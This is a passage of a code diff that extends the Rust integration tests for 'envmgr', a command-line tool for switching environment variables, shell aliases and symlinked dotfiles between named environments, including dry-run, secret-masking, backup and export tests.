@@ -11,10 +11,13 @@ fn test_environment_config_serialization() {
         env_vars: vec![EnvVarsConfig {
             key: "TEST_VAR".to_string(),
             value: "test_value".to_string(),
+            dynamic: None,
+            order: 0,
+            secret: false,
+            when: None,
+            integration: None,
         }],
-        op_ssh: None,
-        gh_cli: None,
-        tailscale: None,
+        ..Default::default()
     };
 
     let yaml_str = serde_json::to_string(&config).unwrap();
@@ -69,7 +72,7 @@ fn test_environment_files_discovery() {
 
 #[test]
 fn test_state_persistence() {
-    use envmgr::state::State;
+    use envmgr::state::{ManagedFile, State};
 
     let state = State {
         current_env_key: "test_env".to_string(),
@@ -77,7 +80,15 @@ fn test_state_persistence() {
             ("VAR1".to_string(), "value1".to_string()),
             ("VAR2".to_string(), "value2".to_string()),
         ]),
-        managed_files: vec![PathBuf::from("/tmp/file1"), PathBuf::from("/tmp/file2")],
+        managed_files: vec![
+            ManagedFile {
+                target: PathBuf::from("/tmp/file1"),
+                source: PathBuf::from("/cfg/base/files/file1"),
+                env_key: "base".to_string(),
+            },
+            ManagedFile::legacy(PathBuf::from("/tmp/file2")),
+        ],
+        ..State::default()
     };
 
     let serialized = toml::to_string_pretty(&state).unwrap();
@@ -85,9 +96,10 @@ fn test_state_persistence() {
 
     assert_eq!(deserialized.current_env_key, "test_env");
     assert_eq!(deserialized.applied_env_vars.len(), 2);
-    assert_eq!(deserialized.managed_files.len(), 2);
+    assert_eq!(deserialized.managed_files, state.managed_files);
 }
 
+#[cfg(unix)]
 #[test]
 fn test_symlink_creation() {
     let temp_dir = std::env::temp_dir().join("envmgr_symlink_test");
@@ -107,6 +119,7 @@ fn test_symlink_creation() {
     fs::remove_dir_all(&temp_dir).unwrap();
 }
 
+#[cfg(unix)]
 #[test]
 fn test_symlink_update() {
     let temp_dir = std::env::temp_dir().join("envmgr_symlink_update_test");
@@ -137,6 +150,11 @@ fn test_env_vars_config() {
     let env_var = EnvVarsConfig {
         key: "DATABASE_URL".to_string(),
         value: "postgres://localhost/mydb".to_string(),
+        dynamic: None,
+        order: 2,
+        secret: false,
+        when: None,
+        integration: None,
     };
 
     let json = serde_json::to_string(&env_var).unwrap();
@@ -144,6 +162,15 @@ fn test_env_vars_config() {
 
     assert_eq!(deserialized.key, "DATABASE_URL");
     assert_eq!(deserialized.value, "postgres://localhost/mydb");
+    assert_eq!(deserialized.order, 2);
+
+    // Configs written before `order` existed still load
+    let legacy: EnvVarsConfig = serde_json::from_str(r#"{"key":"A","value":"b"}"#).unwrap();
+    assert_eq!(legacy.order, 0);
+    assert!(!serde_json::to_string(&legacy).unwrap().contains("order"));
+    // Likewise configs written before `secret`
+    assert!(!legacy.secret);
+    assert!(!serde_json::to_string(&legacy).unwrap().contains("secret"));
 }
 
 #[test]
@@ -170,3 +197,1864 @@ fn test_multiple_env_vars_merge() {
     assert_eq!(merged.get("VAR2"), Some(&"override2".to_string()));
     assert_eq!(merged.get("VAR3"), Some(&"new3".to_string()));
 }
+
+/// Run the envmgr binary with config, state and home directories inside `root`
+fn run_envmgr(root: &Path, args: &[&str]) -> std::process::Output {
+    let output = std::process::Command::new(env!("CARGO_BIN_EXE_envmgr"))
+        .args(args)
+        .env("ENVMGR_CONFIG_DIR", root.join("config"))
+        .env("ENVMGR_STATE_DIR", root.join("state"))
+        .env("HOME", root.join("home"))
+        .output()
+        .unwrap();
+    assert!(
+        output.status.success(),
+        "envmgr {args:?} failed: {}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    output
+}
+
+fn create_config_root(name: &str) -> PathBuf {
+    let root = std::env::temp_dir().join(name);
+    let _ = fs::remove_dir_all(&root);
+    let base_files = root.join("config").join("base").join("files");
+    fs::create_dir_all(&base_files).unwrap();
+    fs::create_dir_all(root.join("home")).unwrap();
+    fs::write(
+        root.join("config").join("base").join("config.yaml"),
+        "name: Base\nenv_vars:\n  - key: BASE_VAR\n    value: base\n",
+    )
+    .unwrap();
+    fs::write(base_files.join(".baserc"), "base").unwrap();
+    root
+}
+
+#[test]
+fn test_cli_add_list_switch_link_in_config_dir() {
+    let root = create_config_root("envmgr_cli_test_config_dir_env");
+
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    let work_files = root.join("config/environments/work/files");
+    assert!(work_files.is_dir());
+    fs::write(work_files.join(".workrc"), "work").unwrap();
+
+    let list = run_envmgr(&root, &["list", "--json"]);
+    let summaries: serde_json::Value = serde_json::from_slice(&list.stdout).unwrap();
+    let keys: Vec<&str> = summaries
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s["key"].as_str().unwrap())
+        .collect();
+    assert_eq!(keys, ["base", "work"]);
+
+    run_envmgr(&root, &["switch", "work"]);
+    let home = root.join("home");
+    assert_eq!(
+        fs::read_link(home.join(".workrc")).unwrap(),
+        work_files.join(".workrc")
+    );
+    assert_eq!(
+        fs::read_link(home.join(".baserc")).unwrap(),
+        root.join("config/base/files/.baserc")
+    );
+    assert!(root.join("state").is_dir());
+
+    let used = run_envmgr(&root, &["use"]);
+    assert!(String::from_utf8_lossy(&used.stdout).contains("set -gx BASE_VAR 'base'"));
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_config_dir_flag_wins_over_env_var() {
+    let root = create_config_root("envmgr_cli_test_config_dir_flag");
+    // ENVMGR_CONFIG_DIR points at a directory that doesn't exist
+    let flag_dir = root.join("flag_config");
+    fs::rename(root.join("config"), &flag_dir).unwrap();
+
+    let list = run_envmgr(
+        &root,
+        &["--config-dir", flag_dir.to_str().unwrap(), "list", "--json"],
+    );
+    let summaries: serde_json::Value = serde_json::from_slice(&list.stdout).unwrap();
+    assert_eq!(summaries[0]["name"], "Base");
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+/// Every file below `dir` with its content, symlinks as their target
+fn snapshot_tree(dir: &Path) -> Vec<(PathBuf, String)> {
+    let mut entries = vec![];
+    if let Ok(read_dir) = fs::read_dir(dir) {
+        for entry in read_dir.flatten() {
+            let path = entry.path();
+            if path.is_symlink() {
+                let target = fs::read_link(&path).unwrap();
+                entries.push((path, format!("-> {}", target.display())));
+            } else if path.is_dir() {
+                entries.extend(snapshot_tree(&path));
+            } else {
+                entries.push((path.clone(), fs::read_to_string(&path).unwrap_or_default()));
+            }
+        }
+    }
+    entries.sort();
+    entries
+}
+
+#[test]
+fn test_cli_dry_run_switch_leaves_filesystem_untouched() {
+    let root = create_config_root("envmgr_cli_test_dry_run_switch");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    fs::write(root.join("config/environments/work/files/.workrc"), "work").unwrap();
+    let before = snapshot_tree(&root);
+
+    let output = run_envmgr(&root, &["--dry-run", "switch", "work"]);
+
+    assert_eq!(snapshot_tree(&root), before);
+    assert!(!root.join("state").exists());
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    let home = root.join("home");
+    assert_eq!(
+        stdout.lines().collect::<Vec<_>>(),
+        [
+            "[dry-run] state: current_env base -> work".to_string(),
+            format!(
+                "[dry-run] link: create {} -> {}",
+                home.join(".baserc").display(),
+                root.join("config/base/files/.baserc").display()
+            ),
+            format!(
+                "[dry-run] link: create {} -> {}",
+                home.join(".workrc").display(),
+                root.join("config/environments/work/files/.workrc")
+                    .display()
+            ),
+        ]
+    );
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_dry_run_link_prints_plan() {
+    let root = create_config_root("envmgr_cli_test_dry_run_link");
+    let base_files = root.join("config/base/files");
+    fs::write(base_files.join(".oldrc"), "old").unwrap();
+    run_envmgr(&root, &["link"]);
+    fs::remove_file(base_files.join(".oldrc")).unwrap();
+    fs::write(base_files.join(".newrc"), "new").unwrap();
+    fs::write(base_files.join(".userrc"), "envmgr").unwrap();
+    let home = root.join("home");
+    fs::write(home.join(".userrc"), "user").unwrap();
+    let before = snapshot_tree(&root);
+
+    let output = run_envmgr(&root, &["--dry-run", "link"]);
+
+    assert_eq!(snapshot_tree(&root), before);
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert_eq!(
+        stdout.lines().collect::<Vec<_>>(),
+        [
+            format!(
+                "[dry-run] link: remove {} (stale)",
+                home.join(".oldrc").display()
+            ),
+            format!("[dry-run] link: create {}", home.join(".newrc").display()),
+            format!(
+                "[dry-run] link: skip {} (exists, not a symlink)",
+                home.join(".userrc").display()
+            ),
+        ]
+    );
+
+    let verbose = run_envmgr(&root, &["--dry-run", "link", "--verbose"]);
+    let stdout = String::from_utf8_lossy(&verbose.stdout);
+    assert!(stdout.contains(&format!(
+        "[dry-run] link: keep {} -> {}",
+        home.join(".baserc").display(),
+        base_files.join(".baserc").display()
+    )));
+    assert!(stdout.contains(&format!(
+        "[dry-run] link: create {} -> {}",
+        home.join(".newrc").display(),
+        base_files.join(".newrc").display()
+    )));
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_switch_no_link_skips_linking() {
+    let root = create_config_root("envmgr_cli_test_switch_no_link");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+
+    run_envmgr(&root, &["switch", "work", "--no-link", "--no-integrations"]);
+
+    assert!(snapshot_tree(&root.join("home")).is_empty());
+    let list = run_envmgr(&root, &["list", "--json"]);
+    let summaries: serde_json::Value = serde_json::from_slice(&list.stdout).unwrap();
+    assert_eq!(summaries[1]["key"], "work");
+    assert_eq!(summaries[1]["current"], true);
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_switch_records_prompt_info() {
+    let root = create_config_root("envmgr_cli_test_prompt");
+    run_envmgr(
+        &root,
+        &["add", "Production", "--key", "prod", "--no-interactive"],
+    );
+    let config = root.join("config/environments/prod/config.yaml");
+    let mut yaml = fs::read_to_string(&config).unwrap();
+    yaml.push_str("danger: true\n");
+    fs::write(&config, yaml).unwrap();
+
+    let prompt = run_envmgr(&root, &["prompt", "--json"]);
+    let info: serde_json::Value = serde_json::from_slice(&prompt.stdout).unwrap();
+    assert_eq!(info["key"], "base");
+    assert_eq!(info["danger"], false);
+
+    run_envmgr(&root, &["switch", "prod", "--no-link", "--no-integrations"]);
+    // Prompts must not depend on the environment config once switched
+    fs::remove_file(&config).unwrap();
+
+    let prompt = run_envmgr(&root, &["prompt", "--json"]);
+    let info: serde_json::Value = serde_json::from_slice(&prompt.stdout).unwrap();
+    assert_eq!(
+        info,
+        serde_json::json!({
+            "key": "prod",
+            "name": "Production",
+            "danger": true,
+            "verified": false,
+            "stack_depth": 0,
+        })
+    );
+    let prompt = run_envmgr(&root, &["prompt"]);
+    assert_eq!(String::from_utf8_lossy(&prompt.stdout), "prod!\n");
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_use_expands_variables_in_values() {
+    let root = create_config_root("envmgr_cli_test_interpolation");
+    let config = root.join("config/base/config.yaml");
+    fs::write(
+        &config,
+        indoc::indoc! {r#"
+            name: Base
+            env_vars:
+              - key: KUBECONFIG
+                value: "${HOME}/.kube/${ENVMGR_ENV}"
+              - key: LITERAL
+                value: "$${HOME}"
+        "#},
+    )
+    .unwrap();
+
+    let used = run_envmgr(&root, &["use"]);
+    let stdout = String::from_utf8_lossy(&used.stdout);
+    let home = root.join("home");
+    assert!(stdout.contains(&format!(
+        "set -gx KUBECONFIG '{}/.kube/base'",
+        home.display()
+    )));
+    assert!(stdout.contains("set -gx LITERAL '${HOME}'"));
+
+    fs::write(
+        &config,
+        "name: Base\nenv_vars:\n  - key: TYPO\n    value: \"${HOEM}\"\n",
+    )
+    .unwrap();
+    let failed = std::process::Command::new(env!("CARGO_BIN_EXE_envmgr"))
+        .arg("use")
+        .env("ENVMGR_CONFIG_DIR", root.join("config"))
+        .env("ENVMGR_STATE_DIR", root.join("state"))
+        .env("HOME", &home)
+        .output()
+        .unwrap();
+    assert!(!failed.status.success());
+    let stderr = String::from_utf8_lossy(&failed.stderr);
+    assert!(stderr.contains("TYPO"));
+    assert!(stderr.contains("${HOEM}"));
+    assert!(stderr.contains(&config.display().to_string()));
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_use_merges_dotenv_file() {
+    let root = create_config_root("envmgr_cli_test_dotenv");
+    fs::write(
+        root.join("config/base/env.dotenv"),
+        "export BASE_VAR=from-dotenv\r\nDOTENV_ONLY=\"a b\" # comment\r\n",
+    )
+    .unwrap();
+
+    let used = run_envmgr(&root, &["use"]);
+    let stdout = String::from_utf8_lossy(&used.stdout);
+    // The YAML wins over the dotenv file
+    assert!(stdout.contains("set -gx BASE_VAR 'base'"), "{stdout}");
+    assert!(stdout.contains("set -gx DOTENV_ONLY 'a b'"), "{stdout}");
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_use_unsets_vars_of_previous_environment() {
+    let root = create_config_root("envmgr_cli_test_use_unsets_stale");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    fs::write(
+        root.join("config/environments/work/config.yaml"),
+        "name: Work\nenv_vars:\n  - key: FOO\n    value: \"1\"\n",
+    )
+    .unwrap();
+
+    run_envmgr(&root, &["switch", "work", "--no-link", "--no-integrations"]);
+    let used = run_envmgr(&root, &["use"]);
+    assert!(String::from_utf8_lossy(&used.stdout).contains("set -gx FOO '1'"));
+
+    run_envmgr(&root, &["switch", "base", "--no-link", "--no-integrations"]);
+    let used = run_envmgr(&root, &["use"]);
+    let stdout = String::from_utf8_lossy(&used.stdout);
+    assert!(stdout.contains("set -e -g FOO"), "{stdout}");
+    assert!(stdout.contains("set -gx BASE_VAR 'base'"), "{stdout}");
+    let state = fs::read_to_string(root.join("state/state.toml")).unwrap();
+    assert!(!state.contains("FOO"), "{state}");
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_use_defines_and_removes_aliases() {
+    let root = create_config_root("envmgr_cli_test_aliases");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    fs::write(
+        root.join("config/environments/work/config.yaml"),
+        indoc::indoc! {r#"
+            name: Work
+            aliases:
+              - name: k
+                command: kubectl --context 'client-abc'
+              - name: gco
+                command: git checkout
+                abbr: true
+        "#},
+    )
+    .unwrap();
+
+    run_envmgr(&root, &["switch", "work", "--no-link", "--no-integrations"]);
+    let used = run_envmgr(&root, &["use"]);
+    let stdout = String::from_utf8_lossy(&used.stdout);
+    assert!(
+        stdout.contains(r"alias k 'kubectl --context \'client-abc\''"),
+        "{stdout}"
+    );
+    assert!(stdout.contains("abbr -a -g gco 'git checkout'"), "{stdout}");
+
+    run_envmgr(&root, &["switch", "base", "--no-link", "--no-integrations"]);
+    let used = run_envmgr(&root, &["use"]);
+    let stdout = String::from_utf8_lossy(&used.stdout);
+    assert!(stdout.contains("functions -e k"), "{stdout}");
+    assert!(stdout.contains("abbr -e gco"), "{stdout}");
+    let used = run_envmgr(&root, &["use"]);
+    assert!(!String::from_utf8_lossy(&used.stdout).contains("functions -e k"));
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_secret_vars_are_masked_but_applied() {
+    let root = create_config_root("envmgr_cli_test_secret_vars");
+    fs::write(
+        root.join("config/base/config.yaml"),
+        "name: Base\nenv_vars:\n  - key: API_TOKEN\n    value: raw-token-value\n    secret: true\n",
+    )
+    .unwrap();
+
+    let used = run_envmgr(&root, &["use"]);
+    assert!(String::from_utf8_lossy(&used.stdout).contains("set -gx API_TOKEN 'raw-token-value'"));
+
+    let shown = run_envmgr(&root, &["show", "--json"]);
+    let stdout = String::from_utf8_lossy(&shown.stdout);
+    assert!(!stdout.contains("raw-token-value"), "{stdout}");
+    assert!(stdout.contains("********"), "{stdout}");
+
+    let exported = run_envmgr(&root, &["export-env"]);
+    assert!(!String::from_utf8_lossy(&exported.stdout).contains("API_TOKEN"));
+    let exported = run_envmgr(&root, &["export-env", "--include-secrets"]);
+    assert!(String::from_utf8_lossy(&exported.stdout).contains("API_TOKEN=\"raw-token-value\""));
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_unset_vars_removes_base_var() {
+    let root = create_config_root("envmgr_cli_test_unset_vars");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    fs::write(
+        root.join("config/environments/work/config.yaml"),
+        "name: Work\nunset_vars: [BASE_VAR]\n",
+    )
+    .unwrap();
+
+    let used = run_envmgr(&root, &["use"]);
+    assert!(String::from_utf8_lossy(&used.stdout).contains("set -gx BASE_VAR 'base'"));
+
+    run_envmgr(&root, &["switch", "work", "--no-link", "--no-integrations"]);
+    let used = run_envmgr(&root, &["use"]);
+    let stdout = String::from_utf8_lossy(&used.stdout);
+    assert!(stdout.contains("set -e -g BASE_VAR"), "{stdout}");
+    assert!(!stdout.contains("set -gx BASE_VAR"), "{stdout}");
+    let state = fs::read_to_string(root.join("state/state.toml")).unwrap();
+    assert!(!state.contains("BASE_VAR"), "{state}");
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[cfg(unix)]
+#[test]
+fn test_cli_switch_to_environment_without_base() {
+    let root = create_config_root("envmgr_cli_test_inherit_base");
+    let home = root.join("home");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    run_envmgr(&root, &["add", "Client", "--no-interactive"]);
+    fs::write(
+        root.join("config/environments/client/config.yaml"),
+        "name: Client\ninherit_base: false\nenv_vars:\n  - key: CLIENT_VAR\n    value: client\n",
+    )
+    .unwrap();
+    fs::write(
+        root.join("config/environments/client/files/.clientrc"),
+        "client",
+    )
+    .unwrap();
+
+    run_envmgr(&root, &["switch", "work", "--no-integrations"]);
+    run_envmgr(&root, &["use"]);
+    assert!(home.join(".baserc").is_symlink());
+
+    // Base-only links and vars go away
+    run_envmgr(&root, &["switch", "client", "--no-integrations"]);
+    assert!(!home.join(".baserc").exists());
+    assert!(home.join(".clientrc").is_symlink());
+    let used = run_envmgr(&root, &["use"]);
+    let stdout = String::from_utf8_lossy(&used.stdout);
+    assert!(stdout.contains("set -e -g BASE_VAR"), "{stdout}");
+    assert!(stdout.contains("set -gx CLIENT_VAR 'client'"), "{stdout}");
+
+    // and come back with an inheriting environment
+    run_envmgr(&root, &["switch", "work", "--no-integrations"]);
+    assert!(home.join(".baserc").is_symlink());
+    assert!(!home.join(".clientrc").exists());
+    let used = run_envmgr(&root, &["use"]);
+    let stdout = String::from_utf8_lossy(&used.stdout);
+    assert!(stdout.contains("set -gx BASE_VAR 'base'"), "{stdout}");
+    assert!(stdout.contains("set -e -g CLIENT_VAR"), "{stdout}");
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_global_env_vars_have_lowest_precedence() {
+    let root = create_config_root("envmgr_cli_test_global_env_vars");
+    fs::write(
+        root.join("config/global.yaml"),
+        "global_env_vars:\n  GLOBAL_ONLY: global\n  BASE_VAR: global\n  WORK_VAR: global\n  DROPPED: global\n",
+    )
+    .unwrap();
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    fs::write(
+        root.join("config/environments/work/config.yaml"),
+        "name: Work\nenv_vars:\n  WORK_VAR: work\nunset_vars: [DROPPED]\n",
+    )
+    .unwrap();
+
+    let used = run_envmgr(&root, &["use"]);
+    let stdout = String::from_utf8_lossy(&used.stdout);
+    assert!(stdout.contains("set -gx GLOBAL_ONLY 'global'"), "{stdout}");
+    assert!(stdout.contains("set -gx BASE_VAR 'base'"), "{stdout}");
+    assert!(stdout.contains("set -gx WORK_VAR 'global'"), "{stdout}");
+    assert!(stdout.contains("set -gx DROPPED 'global'"), "{stdout}");
+
+    // global < base < environment
+    run_envmgr(&root, &["switch", "work", "--no-link", "--no-integrations"]);
+    let used = run_envmgr(&root, &["use"]);
+    let stdout = String::from_utf8_lossy(&used.stdout);
+    assert!(stdout.contains("set -gx BASE_VAR 'base'"), "{stdout}");
+    assert!(stdout.contains("set -gx WORK_VAR 'work'"), "{stdout}");
+    assert!(stdout.contains("set -e -g DROPPED"), "{stdout}");
+    assert!(!stdout.contains("BASE_VAR 'global'"), "{stdout}");
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_link_mode_copy() {
+    let root = create_config_root("envmgr_cli_test_link_mode_copy");
+    let home = root.join("home");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    let work = root.join("config/environments/work");
+    fs::write(
+        work.join("config.yaml"),
+        "name: Work\nlink_modes:\n  .config/sync/*: copy\n",
+    )
+    .unwrap();
+    fs::create_dir_all(work.join("files/.config/sync")).unwrap();
+    fs::write(work.join("files/.config/sync/config.xml"), "<sync/>").unwrap();
+    fs::write(work.join("files/.workrc"), "work").unwrap();
+
+    run_envmgr(&root, &["switch", "work", "--no-integrations"]);
+    let copy = home.join(".config/sync/config.xml");
+    assert!(!copy.is_symlink());
+    assert_eq!(fs::read_to_string(&copy).unwrap(), "<sync/>");
+    assert!(home.join(".workrc").is_symlink());
+
+    run_envmgr(&root, &["switch", "base", "--no-integrations"]);
+    assert!(!copy.exists());
+    assert!(!home.join(".workrc").exists());
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_link_dirs() {
+    let root = create_config_root("envmgr_cli_test_link_dirs");
+    let home = root.join("home");
+    let base = root.join("config/base");
+    fs::create_dir_all(base.join("files/.config/nvim/lua")).unwrap();
+    fs::write(base.join("files/.config/nvim/init.lua"), "-- init").unwrap();
+    fs::write(base.join("files/.config/nvim/lua/plugins.lua"), "").unwrap();
+    let config = fs::read_to_string(base.join("config.yaml")).unwrap();
+    fs::write(
+        base.join("config.yaml"),
+        format!("{config}link_dirs: [.config/nvim]\n"),
+    )
+    .unwrap();
+
+    run_envmgr(&root, &["link"]);
+    let nvim = home.join(".config/nvim");
+    assert!(nvim.is_symlink());
+    assert_eq!(
+        fs::read_link(&nvim).unwrap(),
+        base.join("files/.config/nvim")
+    );
+    assert!(home.join(".baserc").is_symlink());
+    // New files show up without linking again
+    fs::write(base.join("files/.config/nvim/lua/new.lua"), "").unwrap();
+    assert!(nvim.join("lua/new.lua").is_file());
+    let state = fs::read_to_string(root.join("state/state.toml")).unwrap();
+    assert!(state.contains("linked_dirs"), "{state}");
+
+    // Back to per-file links
+    fs::write(base.join("config.yaml"), config).unwrap();
+    run_envmgr(&root, &["link"]);
+    assert!(!nvim.is_symlink());
+    assert!(nvim.join("init.lua").is_symlink());
+    assert!(nvim.join("lua/new.lua").is_symlink());
+    let state = fs::read_to_string(root.join("state/state.toml")).unwrap();
+    assert!(!state.contains("linked_dirs"), "{state}");
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_files_manifest() {
+    let root = create_config_root("envmgr_cli_test_files_manifest");
+    let home = root.join("home");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    let work = root.join("config/environments/work");
+    fs::create_dir_all(work.join("files/kube")).unwrap();
+    fs::write(work.join("files/kube/config-abc"), "clusters: []").unwrap();
+    fs::write(
+        work.join("files.yaml"),
+        "- { source: kube/config-abc, target: ~/.kube/config }\n",
+    )
+    .unwrap();
+
+    run_envmgr(&root, &["switch", "work", "--no-integrations"]);
+    let target = home.join(".kube/config");
+    assert!(target.is_symlink());
+    assert_eq!(fs::read_to_string(&target).unwrap(), "clusters: []");
+    assert!(!home.join("kube").exists());
+    assert!(home.join(".baserc").is_symlink());
+
+    fs::write(
+        work.join("files.yaml"),
+        "- { source: kube/config-abc, target: /etc/kube-config }\n",
+    )
+    .unwrap();
+    let failed = std::process::Command::new(env!("CARGO_BIN_EXE_envmgr"))
+        .arg("link")
+        .env("ENVMGR_CONFIG_DIR", root.join("config"))
+        .env("ENVMGR_STATE_DIR", root.join("state"))
+        .env("HOME", &home)
+        .output()
+        .unwrap();
+    assert!(!failed.status.success());
+    let stderr = String::from_utf8_lossy(&failed.stderr);
+    assert!(stderr.contains("allow_outside_home"), "{stderr}");
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_adopt_backups() {
+    let root = create_config_root("envmgr_cli_test_adopt_backups");
+    let home = root.join("home");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    let work_files = root.join("config/environments/work/files");
+    fs::create_dir_all(work_files.join(".config/app")).unwrap();
+    fs::write(work_files.join(".config/app/settings"), "work").unwrap();
+    let target = home.join(".config/app/settings");
+    fs::create_dir_all(target.parent().unwrap()).unwrap();
+    fs::write(&target, "mine").unwrap();
+
+    run_envmgr(&root, &["switch", "work", "--no-integrations"]);
+    assert!(!target.is_symlink());
+    // Without the flag the real file stays, linking again can opt in
+    run_envmgr(&root, &["link", "--adopt-backups"]);
+    assert!(target.is_symlink());
+    let output = run_envmgr(&root, &["backups", "list", "--json"]);
+    let backups: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert_eq!(backups.as_array().unwrap().len(), 1, "{backups}");
+    assert_eq!(backups[0]["env_key"], "work");
+    let backup = PathBuf::from(backups[0]["path"].as_str().unwrap());
+    assert!(backup.starts_with(root.join("state/backups/work")));
+    assert_eq!(fs::read_to_string(&backup).unwrap(), "mine");
+
+    run_envmgr(&root, &["backups", "restore", target.to_str().unwrap()]);
+    assert!(!target.is_symlink());
+    assert_eq!(fs::read_to_string(&target).unwrap(), "mine");
+    let output = run_envmgr(&root, &["backups", "list", "--json"]);
+    assert_eq!(String::from_utf8_lossy(&output.stdout).trim(), "[]");
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_export_env_matches_use() {
+    let root = create_config_root("envmgr_cli_test_export_env");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    fs::write(
+        root.join("config/environments/work/config.yaml"),
+        indoc::indoc! {r#"
+            name: Work
+            env_vars:
+              - key: BASE_VAR
+                value: "work \"quoted\""
+              - key: FROM_COMMAND
+                value_from_command: "echo generated"
+              - key: TOKEN
+                value: op://Work/API/token
+        "#},
+    )
+    .unwrap();
+
+    let out = root.join("work.env");
+    run_envmgr(&root, &["export-env", "work", "-o", out.to_str().unwrap()]);
+    assert_eq!(
+        fs::read_to_string(&out).unwrap(),
+        "BASE_VAR=\"work \\\"quoted\\\"\"\nFROM_COMMAND=\"generated\"\n"
+    );
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        assert_eq!(
+            fs::metadata(&out).unwrap().permissions().mode() & 0o777,
+            0o600
+        );
+    }
+
+    let docker = run_envmgr(&root, &["export-env", "base", "--format", "docker"]);
+    assert_eq!(String::from_utf8_lossy(&docker.stdout), "BASE_VAR=base\n");
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_hook_errors_become_notices() {
+    let root = create_config_root("envmgr_cli_test_notices");
+    fs::write(
+        root.join("config/base/config.yaml"),
+        "name: Base\nenv_vars:\n  - key: BOTH\n    value: a\n    value_from_command: b\n",
+    )
+    .unwrap();
+    for _ in 0..2 {
+        let failed = std::process::Command::new(env!("CARGO_BIN_EXE_envmgr"))
+            .args(["use", "--hook"])
+            .env("ENVMGR_CONFIG_DIR", root.join("config"))
+            .env("ENVMGR_STATE_DIR", root.join("state"))
+            .env("HOME", root.join("home"))
+            .output()
+            .unwrap();
+        assert!(!failed.status.success());
+    }
+
+    let listed = run_envmgr(&root, &["notices", "--json"]);
+    let entries: serde_json::Value = serde_json::from_slice(&listed.stdout).unwrap();
+    let entries = entries.as_array().unwrap();
+    assert_eq!(entries.len(), 1);
+    assert_eq!(entries[0]["subject"], "base");
+    assert_eq!(entries[0]["count"], 2);
+    assert!(
+        entries[0]["message"]
+            .as_str()
+            .unwrap()
+            .contains("sets more than one of `value`, `value_from_command`")
+    );
+
+    run_envmgr(&root, &["notices", "clear"]);
+    assert!(!root.join("state/notices.yaml").exists());
+    let listed = run_envmgr(&root, &["notices", "--json"]);
+    assert_eq!(String::from_utf8_lossy(&listed.stdout).trim(), "[]");
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[cfg(unix)]
+#[test]
+fn test_cli_use_runs_value_commands() {
+    let root = create_config_root("envmgr_cli_test_value_from_command");
+    let config = root.join("config/base/config.yaml");
+    fs::write(
+        &config,
+        indoc::indoc! {r#"
+            name: Base
+            env_vars:
+              - key: TOKEN
+                value_from_command: "echo secret-$((1 + 1))"
+              - key: PLAIN
+                value: plain
+        "#},
+    )
+    .unwrap();
+
+    let used = run_envmgr(&root, &["use"]);
+    let stdout = String::from_utf8_lossy(&used.stdout);
+    assert!(stdout.contains("set -gx TOKEN 'secret-2'"));
+    assert!(stdout.contains("set -gx PLAIN 'plain'"));
+
+    // A failing command keeps the applied value and names the command and exit code
+    fs::write(
+        &config,
+        indoc::indoc! {r#"
+            name: Base
+            env_vars:
+              - key: TOKEN
+                value_from_command: "exit 4"
+              - key: PLAIN
+                value: plain
+        "#},
+    )
+    .unwrap();
+    let failed = std::process::Command::new(env!("CARGO_BIN_EXE_envmgr"))
+        .arg("use")
+        .env("ENVMGR_CONFIG_DIR", root.join("config"))
+        .env("ENVMGR_STATE_DIR", root.join("state"))
+        .env("HOME", root.join("home"))
+        .output()
+        .unwrap();
+    assert!(!failed.status.success());
+    let stdout = String::from_utf8_lossy(&failed.stdout);
+    assert!(stdout.contains("set -gx TOKEN 'secret-2'"));
+    assert!(stdout.contains("set -gx PLAIN 'plain'"));
+    let stderr = String::from_utf8_lossy(&failed.stderr);
+    assert!(stderr.contains("TOKEN: `exit 4` exited with status 4"));
+
+    let skipped = run_envmgr(&root, &["use", "--skip-dynamic"]);
+    assert!(String::from_utf8_lossy(&skipped.stdout).contains("set -gx TOKEN 'secret-2'"));
+
+    fs::write(
+        &config,
+        "name: Base\nenv_vars:\n  - key: BOTH\n    value: a\n    value_from_command: b\n",
+    )
+    .unwrap();
